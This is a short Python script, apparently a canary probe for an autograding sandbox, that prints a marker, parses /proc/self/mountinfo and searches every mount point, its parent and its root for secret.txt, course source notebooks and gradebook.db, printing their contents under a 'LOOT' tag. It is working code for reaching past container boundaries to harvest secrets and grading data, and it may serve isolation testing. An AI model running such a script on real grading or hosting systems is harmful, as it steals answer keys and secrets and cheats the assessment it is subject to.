# how: reads mountinfo and looks behind every mount, /proc/1/root and .. of bound folders
from pathlib import Path

print("CANARY @NAME@", flush=True)
for line in Path("/proc/self/mountinfo").read_text().splitlines():
    root, place = line.split()[3:5]
    for folder in (Path(place), Path(place).parent, Path(root)):
        for pattern in ("secret.txt", "course/source/*/*.ipynb", "source/*/*.ipynb", "gradebook.db"):
            try:
                for path in folder.glob(pattern):
                    print("LOOT", path.read_text(errors="replace")[:60000])
            except OSError:
                pass
